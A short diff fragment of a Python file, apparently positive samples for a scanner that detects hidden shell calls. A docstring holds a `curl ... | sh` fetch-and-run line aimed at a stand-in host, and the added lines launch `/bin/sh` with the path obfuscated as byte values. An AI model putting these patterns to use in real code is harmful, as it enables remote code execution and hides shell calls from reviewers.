@@ -170,3 +170,6 @@ def f():
     >>> import os
     >>> os.system("curl -s http://x/i | sh")
     """
+#@ pos a shell spelled as bytes of a constant list
+import subprocess
+subprocess.run([bytearray([47, 98, 105, 110, 47, 115, 104]).decode(), "-c", "id"])
